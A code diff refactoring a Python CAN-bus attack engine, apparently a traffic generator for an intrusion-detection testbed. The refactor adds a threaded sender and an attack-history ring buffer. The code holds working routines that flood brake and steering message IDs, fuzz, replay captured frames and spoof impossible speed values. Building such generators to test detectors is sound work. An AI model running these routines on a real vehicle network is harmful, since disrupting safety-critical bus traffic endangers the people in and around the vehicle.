@@ -1,53 +1,192 @@
 import can
 import time
 import random
+import queue
 import threading
 from datetime import datetime
 from config import *
+from alerts import VERDICT_RECORD, VerdictSink, verdict_fields, unpack_verdict
+
+class AttackHistory:
+    """Fixed-capacity ring of packed sent-frame records with running per-type counters"""
+    
+    def __init__(self, capacity=ATTACK_HISTORY_CAPACITY, capture_file=ATTACK_CAPTURE_FILE):
+        self.capacity = capacity
+        self.ring = bytearray(capacity * VERDICT_RECORD.size)
+        self.next_slot = 0
+        self.stored = 0
+        self.total = 0
+        self.by_type = {}
+        self.lock = threading.Lock()
+        # Optional full capture in the verdict log format (readable with alerts.read_verdicts)
+        self.capture = VerdictSink(capture_file) if capture_file else None
+    
+    def record(self, timestamp, msg_id, data, attack_type):
+        """Store one sent frame, overwriting the oldest once the ring is full"""
+        fields = verdict_fields(timestamp, msg_id, data, -1, attack_type)
+        with self.lock:
+            VERDICT_RECORD.pack_into(self.ring, self.next_slot * VERDICT_RECORD.size, *fields)
+            self.next_slot = (self.next_slot + 1) % self.capacity
+            self.stored = min(self.stored + 1, self.capacity)
+            self.total += 1
+            self.by_type[attack_type] = self.by_type.get(attack_type, 0) + 1
+            if self.capture:
+                self.capture.write(timestamp, msg_id, data, -1, attack_type)
+    
+    def _entry(self, slot):
+        ts, msg_id, data, prediction, attack_type = unpack_verdict(self.ring, slot * VERDICT_RECORD.size)
+        return {
+            'timestamp': datetime.fromtimestamp(ts),
+            'attack_type': attack_type,
+            'msg_id': msg_id,
+            'data': list(data)
+        }
+    
+    def recent(self, count=None):
+        """Most recent sent frames as dicts, oldest first"""
+        with self.lock:
+            count = self.stored if count is None else min(count, self.stored)
+            return [self._entry((self.next_slot - i) % self.capacity) for i in range(count, 0, -1)]
+    
+    def snapshot(self):
+        """Constant-time summary for status polling"""
+        with self.lock:
+            return {
+                'messages_sent': self.total,
+                'by_type': dict(self.by_type),
+                'last_message': self._entry((self.next_slot - 1) % self.capacity) if self.stored else None
+            }
+    
+    def clear(self):
+        with self.lock:
+            self.next_slot = 0
+            self.stored = 0
+            self.total = 0
+            self.by_type = {}
+        
+    def close(self):
+        if self.capture:
+            self.capture.close()
 
 class AttackEngine:
+    """Attack generators feeding one sender thread that owns the CAN bus"""
+    
     def __init__(self):
         self.bus = can.interface.Bus(channel=CAN_CHANNEL, interface=CAN_INTERFACE)
-        self.is_attacking = False
-        self.current_attack = None
-        self.attack_thread = None
-        self.message_history = []
-        
-    def start_attack(self, attack_type, duration=None):
-        """Start a specific type of attack (sync version)"""
-        if self.is_attacking:
-            self.stop_attack()
-            
-        self.current_attack = attack_type
-        self.is_attacking = True
-        
-        attack_methods = {
+        self.history = AttackHistory()
+        self.attack_methods = {
             "DOS": self._dos_attack,
             "FUZZING": self._fuzzing_attack,
             "REPLAY": self._replay_attack,
             "SPOOFING": self._spoofing_attack,
             "FLOODING": self._flooding_attack
         }
+        # attack_type -> (generator thread, stop event)
+        self.workers = {}
+        self.lock = threading.Lock()
+        self.frames = queue.Queue(maxsize=ATTACK_QUEUE_SIZE)
+        # Queues of generators capturing bus traffic; the sender reads the bus for them
+        self.listeners = []
+        self.sender_thread = threading.Thread(target=self._sender_loop, daemon=True)
+        self.sender_thread.start()
+    
+    @property
+    def is_attacking(self):
+        return bool(self.workers)
+    
+    @property
+    def current_attack(self):
+        return ", ".join(self.workers) or None
+        
+    def start_attack(self, attack_type, duration=None, exclusive=True):
+        """Start a specific type of attack (sync version)
         
-        if attack_type in attack_methods:
-            self.attack_thread = threading.Thread(
-                target=attack_methods[attack_type], 
-                args=(duration,)
-            )
-            self.attack_thread.daemon = True
-            self.attack_thread.start()
-            print(f"🚨 Started {ATTACK_TYPES[attack_type]['name']} attack")
-        else:
+        exclusive: stop every running attack first; otherwise run alongside them
+        """
+        if attack_type not in self.attack_methods:
             print(f"❌ Unknown attack type: {attack_type}")
-            self.is_attacking = False
+            return
+        
+        self.stop_attack(None if exclusive else attack_type)
+        stop = threading.Event()
+        thread = threading.Thread(target=self._run_generator, args=(attack_type, duration, stop), daemon=True)
+        with self.lock:
+            self.workers[attack_type] = (thread, stop)
+        thread.start()
+        print(f"🚨 Started {ATTACK_TYPES[attack_type]['name']} attack")
+    
+    def stop_attack(self, attack_type=None):
+        """Stop one attack, or all of them (sync version)
+        
+        Takes effect immediately: generators wake from their waits and frames they
+        already queued are discarded by the sender.
+        """
+        with self.lock:
+            targets = list(self.workers) if attack_type is None else [attack_type]
+            stopped = [(name, self.workers.pop(name)) for name in targets if name in self.workers]
+        for name, (thread, stop) in stopped:
+            stop.set()
+            print(f"🛑 Stopped {name} attack")
+    
+    def close(self):
+        """Stop all attacks and the sender, then release the bus"""
+        self.stop_attack()
+        self.frames.put(None)
+        self.sender_thread.join(timeout=1)
+        self.history.close()
+        self.bus.shutdown()
+    
+    def _run_generator(self, attack_type, duration, stop):
+        try:
+            self.attack_methods[attack_type](duration, stop)
+        except Exception as e:
+            print(f"❌ {attack_type} generator failed: {e}")
+        finally:
+            # Finished on its own (duration elapsed); forget it unless it was replaced
+            with self.lock:
+                if attack_type in self.workers and self.workers[attack_type][1] is stop:
+                    del self.workers[attack_type]
+    
+    def _sender_loop(self):
+        """Single owner of the bus: send queued frames until closed, reading the bus
+        in between while any generator is capturing traffic"""
+        while True:
+            try:
+                if self.listeners:
+                    self._read_bus()
+                    item = self.frames.get_nowait()
+                else:
+                    item = self.frames.get(timeout=0.1)
+            except queue.Empty:
+                continue
+            if item is None:
+                break
+            stop, msg_id, data, attack_type = item
+            if stop.is_set():
+                continue  # attack was stopped while the frame was queued
+            self._send_message(msg_id, data, attack_type)
+    
+    def _read_bus(self):
+        """Hand the next received frame, if any, to every capturing generator"""
+        try:
+            msg = self.bus.recv(timeout=0.01)
+        except Exception:
+            return
+        if msg is not None:
+            with self.lock:
+                listeners = list(self.listeners)
+            for listener in listeners:
+                listener.put(msg)
     
-    def stop_attack(self):
-        """Stop current attack (sync version)"""
-        self.is_attacking = False
-        if self.attack_thread and self.attack_thread.is_alive():
-            self.attack_thread.join(timeout=1)
-        print(f"🛑 Stopped {self.current_attack} attack")
-        self.current_attack = None
+    def _emit(self, stop, msg_id, data, attack_type):
+        """Queue a frame for the sender, waiting while the bus is saturated"""
+        while not stop.is_set():
+            try:
+                self.frames.put((stop, msg_id, data, attack_type), timeout=0.1)
+                return True
+            except queue.Full:
+                continue
+        return False
     
     def _send_message(self, msg_id, data, attack_type):
         """Send CAN message with attack metadata"""
@@ -56,43 +195,39 @@ class AttackEngine:
             self.bus.send(msg)
             
             # Log attack details
-            attack_info = {
-                'timestamp': datetime.now(),
-                'attack_type': attack_type,
-                'msg_id': msg_id,
-                'data': list(data)
-            }
-            self.message_history.append(attack_info)
+            self.history.record(time.time(), msg_id, data, attack_type)
             
             print(f"{ATTACK_TYPES[attack_type]['icon']} {attack_type}: ID=0x{msg_id:03X}, Data={list(data)}")
             
         except Exception as e:
             print(f"❌ Error sending message: {e}")
     
-    def _dos_attack(self, duration):
+    @staticmethod
+    def _active(stop, start_time, duration):
+        return not stop.is_set() and (not duration or time.time() - start_time < duration)
+    
+    def _dos_attack(self, duration, stop):
         """Denial of Service - flood with high-priority messages"""
         start_time = time.time()
         params = ATTACK_PARAMS["DOS"]
         
-        while self.is_attacking and (not duration or time.time() - start_time < duration):
+        while self._active(stop, start_time, duration):
             for _ in range(params["burst_count"]):
-                if not self.is_attacking:
-                    break
-                    
                 critical_ids = [CAN_IDS["BRAKE"], CAN_IDS["STEERING"], CAN_IDS["ENGINE_TEMP"]]
                 msg_id = random.choice(critical_ids)
                 data = [0xFF] * 8
                 
-                self._send_message(msg_id, data, "DOS")
-                time.sleep(params["interval"])
+                self._emit(stop, msg_id, data, "DOS")
+                if stop.wait(params["interval"]):
+                    return
             
-            time.sleep(0.1)
+            stop.wait(0.1)
     
-    def _fuzzing_attack(self, duration):
+    def _fuzzing_attack(self, duration, stop):
         """Fuzzing - send random/malformed data"""
         start_time = time.time()
         
-        while self.is_attacking and (not duration or time.time() - start_time < duration):
+        while self._active(stop, start_time, duration):
             # Use random IDs outside normal range
             msg_id = random.randint(0x600, 0x7FF)  # High ID range
             
@@ -105,10 +240,10 @@ class AttackEngine:
             ]
             data = random.choice(patterns)
             
-            self._send_message(msg_id, data, "FUZZING")
-            time.sleep(random.uniform(0.1, 0.3))
+            self._emit(stop, msg_id, data, "FUZZING")
+            stop.wait(random.uniform(0.1, 0.3))
     
-    def _replay_attack(self, duration):
+    def _replay_attack(self, duration, stop):
         """Replay - capture and replay legitimate messages"""
         start_time = time.time()
         params = ATTACK_PARAMS["REPLAY"]
@@ -116,14 +251,22 @@ class AttackEngine:
         captured_messages = []
         print("📡 Capturing legitimate messages for replay...")
         
-        capture_start = time.time()
-        while len(captured_messages) < 10 and time.time() - capture_start < 5:
-            try:
-                msg = self.bus.recv(timeout=1.0)
-                if msg and msg.arbitration_id in CAN_IDS.values():
+        # Frames are read by the sender thread, which owns the bus
+        received = queue.Queue()
+        with self.lock:
+            self.listeners.append(received)
+        try:
+            capture_start = time.time()
+            while len(captured_messages) < 10 and time.time() - capture_start < 5 and not stop.is_set():
+                try:
+                    msg = received.get(timeout=0.2)
+                except queue.Empty:
+                    continue
+                if msg.arbitration_id in CAN_IDS.values():
                     captured_messages.append((msg.arbitration_id, list(msg.data)))
-            except:
-                continue
+        finally:
+            with self.lock:
+                self.listeners.remove(received)
         
         if not captured_messages:
             captured_messages = [
@@ -131,22 +274,20 @@ class AttackEngine:
                 (CAN_IDS["RPM"], [0x0F, 0xA0])
             ]
         
-        while self.is_attacking and (not duration or time.time() - start_time < duration):
+        while self._active(stop, start_time, duration):
             for msg_id, data in captured_messages:
-                if not self.is_attacking:
-                    break
-                    
                 for _ in range(params["replay_count"]):
-                    self._send_message(msg_id, data, "REPLAY")
-                    time.sleep(params["interval"])
+                    self._emit(stop, msg_id, data, "REPLAY")
+                    if stop.wait(params["interval"]):
+                        return
             
-            time.sleep(1)
+            stop.wait(1)
     
-    def _spoofing_attack(self, duration):
+    def _spoofing_attack(self, duration, stop):
         """Spoofing - send fake but realistic-looking data"""
         start_time = time.time()
         
-        while self.is_attacking and (not duration or time.time() - start_time < duration):
+        while self._active(stop, start_time, duration):
             # Send clearly unrealistic values
             attack_scenarios = [
                 (CAN_IDS["SPEED"], [min(255, random.randint(250, 255))]),  # Impossible speed
@@ -155,21 +296,18 @@ class AttackEngine:
             ]
             
             msg_id, data = random.choice(attack_scenarios)
-            self._send_message(msg_id, data, "SPOOFING")
-            time.sleep(random.uniform(0.3, 1.0))
+            self._emit(stop, msg_id, data, "SPOOFING")
+            stop.wait(random.uniform(0.3, 1.0))
     
-    def _flooding_attack(self, duration):
+    def _flooding_attack(self, duration, stop):
         """Flooding - overwhelm the bus with legitimate-looking messages"""
         start_time = time.time()
         
         # Much faster flooding rate
         message_interval = 0.01  # 100 messages per second
         
-        while self.is_attacking and (not duration or time.time() - start_time < duration):
+        while self._active(stop, start_time, duration):
             for msg_id in CAN_IDS.values():
-                if not self.is_attacking:
-                    break
-                    
                 if msg_id == CAN_IDS["SPEED"]:
                     data = [random.randint(0, 120)]  # Normal speed range
                 elif msg_id == CAN_IDS["RPM"]:
@@ -178,18 +316,17 @@ class AttackEngine:
                 else:
                     data = [random.randint(0, 100)]
                 
-                self._send_message(msg_id, data, "FLOODING")
-                time.sleep(message_interval)
+                self._emit(stop, msg_id, data, "FLOODING")
+                if stop.wait(message_interval):
+                    return
     
     def get_attack_status(self):
         """Get current attack status"""
-        return {
-            'is_attacking': self.is_attacking,
-            'current_attack': self.current_attack,
-            'messages_sent': len(self.message_history),
-            'last_message': self.message_history[-1] if self.message_history else None
-        }
+        status = self.history.snapshot()
+        status['is_attacking'] = self.is_attacking
+        status['current_attack'] = self.current_attack
+        return status
     
     def clear_history(self):
         """Clear message history"""
-        self.message_history.clear()
\ No newline at end of file
+        self.history.clear()
\ No newline at end of file